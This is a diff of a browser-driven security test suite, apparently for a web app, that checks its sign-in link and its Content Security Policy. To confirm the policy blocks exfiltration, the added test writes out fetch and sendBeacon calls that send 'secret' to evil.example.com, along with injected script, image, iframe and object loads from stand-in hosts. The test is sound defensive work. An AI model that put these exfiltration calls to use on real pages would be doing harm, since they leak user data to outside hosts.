@@ -105,7 +105,7 @@ def test_a_neighbours_page_can_neither_read_nor_change_anything(fresh: Stage, vi
 
 @promise("SEC-9.sign-in")
 def test_the_link_signs_in_once_and_leaves_no_code_behind(fresh: Stage, visit: Visit, watch: Watch) -> None:
-    link = fresh.link()
+    link = fresh.house.cli("open", "--print").stdout.strip()
     code = link.partition("#code=")[2]
     context = visit.stranger(fresh)
     page = context.new_page()
@@ -193,15 +193,37 @@ def test_every_page_comes_under_a_strict_policy(fresh: Stage, visit: Visit, path
     assert answer.headers["referrer-policy"] == "no-referrer"
 
 
-def test_a_script_that_got_into_the_page_would_not_run(fresh: Stage, visit: Visit, watch: Watch) -> None:
-    watch.expect_console("Content Security Policy|Content-Security-Policy|TrustedHTML|TrustedScript|Trusted Type")
+@promise("SEC-9.csp")
+def test_what_got_into_the_page_would_not_run_and_reach_nobody(fresh: Stage, visit: Visit, watch: Watch) -> None:
+    watch.expect_console("Content Security Policy|TrustedHTML|TrustedScript|Trusted Type")
     page = visit(fresh)
     page.evaluate(PLANT)
     assert page.evaluate("window.ran") is None
     assert page.evaluate("document.body.querySelectorAll('img[onerror]').length") == 0
+    for tag, attribute, url in (
+        ("script", "src", "http://cdn.example.com/x.js"),
+        ("img", "src", "http://pixel.example.com/x.png?secret"),
+        ("link", "href", "http://cdn.example.com/x.css"),
+        ("iframe", "src", "http://frame.example.com/"),
+        ("object", "data", "http://frame.example.com/x.swf"),
+    ):
+        # A frame that was blocked loads an empty page of Chromium's own.
+        assert page.evaluate(LOAD, [tag, attribute, url]) == ("loaded" if tag == "iframe" else "blocked"), tag
+    assert page.evaluate(f"fetch('http://evil.example.com/?secret').{TOLD}") == "blocked"
+    assert page.evaluate("navigator.sendBeacon('http://evil.example.com/beacon', 'secret')") in (True, False)
+    assert [url for url in watch.requests if "example.com" in url] == []
     is_live(page)
 
 
+TOLD = "then(() => 'sent', () => 'blocked')"
+LOAD = """([tag, attribute, url]) => new Promise((done) => {
+    const element = document.createElement(tag);
+    if (tag === 'link') element.rel = 'stylesheet';
+    element.onload = () => done('loaded');
+    element.onerror = () => done('blocked');
+    try { element[attribute] = url; } catch { done('blocked'); }
+    document.body.append(element);
+})"""
 PLANT = """() => new Promise((done) => setTimeout(() => {
     // Later, as what a driver asks for by itself is allowed everything.
     const script = document.createElement('script');
